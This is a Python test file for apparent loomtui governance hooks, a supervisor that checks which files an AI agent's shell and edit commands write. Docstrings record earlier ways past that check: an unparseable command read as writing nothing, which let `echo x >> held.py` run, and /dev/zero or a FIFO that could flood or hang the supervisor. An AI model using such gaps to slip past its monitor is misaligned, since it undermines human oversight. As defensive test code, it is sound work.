    absolute = bash.absolute_path
    monkeypatch.setattr(bash, "absolute_path", lambda raw, cwd: made.append(raw) or absolute(raw, cwd))
    group = "{" + ",".join(f"a{n}" for n in range(50)) + "}"
    written = bash_write_targets(f"touch {group * 3}", tmp_path)
    assert len(written) == MAX_TARGETS and written[0] == str(tmp_path / "a0a0a0") and len(made) <= MAX_TARGETS
    assert bash_write_targets("touch x{a,b{c,d}}.py", tmp_path) == [str(tmp_path / n) for n in ("xa.py", "xbc.py",
                                                                                                 "xbd.py")]


def test_what_a_tool_call_names_is_read_only_when_it_is_a_regular_file_of_reasonable_size(tmp_path: Path) -> None:
    """The broker (the supervisor, outside the sandbox) reads the file an agent names to see which lines
    change: `/dev/zero` grew it 70 MB a second, and a FIFO held its only worker for good."""
    from loomtui.governance.hooks.edits import MAX_READ_BYTES, read_text

    fifo = tmp_path / "f.py"
    os.mkfifo(fifo)
    big = tmp_path / "big.py"
    with big.open("wb") as out:
        out.truncate(MAX_READ_BYTES + 1)
    small = tmp_path / "small.py"
    small.write_text("x = 1\n")
    read: dict[str, str | None] = {}
    reader = threading.Thread(target=lambda: read.update((str(p), read_text(p)) for p in (
        Path("/dev/zero"), fifo, big, small, tmp_path)), daemon=True)
    reader.start()
    reader.join(30)  # a FIFO opened to wait for a writer would never return
    assert read == {"/dev/zero": None, str(fifo): None, str(big): None, str(small): "x = 1\n", str(tmp_path): None}


def test_a_bash_command_whose_writes_cannot_be_told_is_refused_saying_how_to_go_on(
        billing: Path, ws: Workspace) -> None:
    """It got no decision (read as writing nothing), and `echo x >> held.py # it's fine` ran."""
    done = hook(payload(billing, "Bash", {"command": 'echo "unterminated > x'}))
    assert done.returncode == 2 and done.stdout == "" and done.stderr.count("\n") == 1, done.stderr
    assert "cannot tell which files this command writes" in done.stderr and "Edit or Write tool" in done.stderr
    assert ws.store.live_claims(ME) == []


def test_with_the_store_unreachable_the_broker_answers_why_rather_than_close_the_connection(
        billing: Path, ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A team's store down for 4 s: the agent's commit was refused with "the loomtui broker closed the connection"
    (its caller check read the store, and failed before any answer), the reason in the supervisor's log alone."""
    from loomtui.errors import StoreUnreachable

    socket_path = tmp_path / "broker.sock"
    broker = Broker(ws, "agent-1", billing, socket_path)
    broker.start()
    client = BrokerClient(socket_path)

    def down(*_args: object, **_kwargs: object) -> object:
        raise StoreUnreachable("postgresql://loom@127.0.0.1:5432/team: cannot reach the database (refused)")

    try:
        for reading in ("_query", "_begin"):  # every read and every write
            monkeypatch.setattr(type(ws.store), reading, down)
        with pytest.raises(BrokerError) as refused:
            client.request("check_edit", path=str(billing / SERVICE), lines=[61, 61])
        assert "cannot reach the database" in str(refused.value), refused.value
    finally:
        monkeypatch.undo()
        client.close()
        broker.close()


def test_hooks_installed_in_a_bare_repository_s_worktree_leave_it_a_work_tree(tmp_path: Path) -> None:
    """A bare repository used through linked worktrees: per-worktree config turned on with `core.bare` left in
    the shared config made every worktree bare to git ("this operation must be run in a work tree")."""
    from tests.conftest import one_commit_repo

    source = one_commit_repo(tmp_path / "source")
    git(tmp_path, "clone", "-q", "--bare", str(source), str(tmp_path / "repo.git"))
    git(tmp_path / "repo.git", "worktree", "add", "-q", str(tmp_path / "wt"), "main")
    done = run_cli(tmp_path / "wt", "hook", "install")
    assert done.returncode == 0, done.stderr
    assert git(tmp_path / "wt", "config", "--get", "extensions.worktreeConfig").strip() == "true"
    assert "a.py" in git(tmp_path / "wt", "ls-files")  # a work tree still (`git status` failed here)
    git(tmp_path / "wt", "status", "--porcelain")
    assert git(tmp_path / "repo.git", "rev-parse", "--is-bare-repository").strip() == "true"  # the repository's own


def test_a_refusal_names_a_command_substitution_as_written_not_its_mark(tmp_path: Path) -> None:
    """`git apply "$(ls *.patch)"` was refused as reading '$\\x010\\x01' (the mark a substitution leaves)."""
    from loomtui.governance.hooks.bash import CommandNotRead

    for command, said in (('git apply "$(ls *.patch)"', "it reads '$(…)'"),
                          ('touch "$(date +%s).stamp"', "named by a command's output ('$(…).stamp')")):
        with pytest.raises(CommandNotRead) as refused:
            bash_write_targets(command, tmp_path)
        assert said in str(refused.value) and "x01" not in str(refused.value), str(refused.value)
